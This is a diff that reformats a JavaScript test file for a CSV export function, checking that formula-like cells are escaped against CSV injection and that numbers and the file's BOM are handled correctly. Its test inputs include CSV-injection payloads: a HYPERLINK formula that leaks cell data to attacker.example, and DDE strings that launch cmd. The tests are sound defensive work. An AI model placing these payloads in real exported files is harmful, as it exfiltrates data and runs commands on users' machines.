@@ -14,8 +14,8 @@ describe('neutralising formula cells (OWASP CSV Injection)', () => {
     ['=1+2', "'=1+2"],
     ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', `'=HYPERLINK("http://attacker.example/?leak="&A1,"Click")`],
     ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
-    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
-    ['@SUM(1+1)*cmd|\' /C calc\'!A0', "'@SUM(1+1)*cmd|' /C calc'!A0"],
+    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
+    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
     ['@SUM(A1)', "'@SUM(A1)"],
     ['\t=1+2', "'\t=1+2"],
     ['\r=1+2', "'\r=1+2"],
@@ -34,7 +34,9 @@ describe('neutralising formula cells (OWASP CSV Injection)', () => {
   });
 
   it('never touches numbers: a negative number stays a number', () => {
-    expect(csvRecord([-12.5, -3, 0], [{ header: 'a' }, { header: 'b', decimals: 2 }, { header: 'c', decimals: 1 }])).toBe('-12.5,-3.00,0.0\r\n');
+    expect(csvRecord([-12.5, -3, 0], [{ header: 'a' }, { header: 'b', decimals: 2 }, { header: 'c', decimals: 1 }])).toBe(
+      '-12.5,-3.00,0.0\r\n',
+    );
   });
 });
 
@@ -53,7 +55,13 @@ describe('numbers as the screen shows them', () => {
 
 describe('the whole file', () => {
   it('starts with the UTF-8 BOM, then the header, then CRLF records; null is an empty cell', () => {
-    const text = writeCsv(['cause', { header: 'excavated_m3', decimals: 1 }, 'note'], [['Survey', 502.6548, null], ['@Other', 10, '=1+2']]);
+    const text = writeCsv(
+      ['cause', { header: 'excavated_m3', decimals: 1 }, 'note'],
+      [
+        ['Survey', 502.6548, null],
+        ['@Other', 10, '=1+2'],
+      ],
+    );
     expect(text.startsWith(CSV_BOM)).toBe(true);
     expect(CSV_BOM).toBe('\uFEFF');
     // UTF-8 encoding of U+FEFF is EF BB BF (Unicode Standard §23.8).
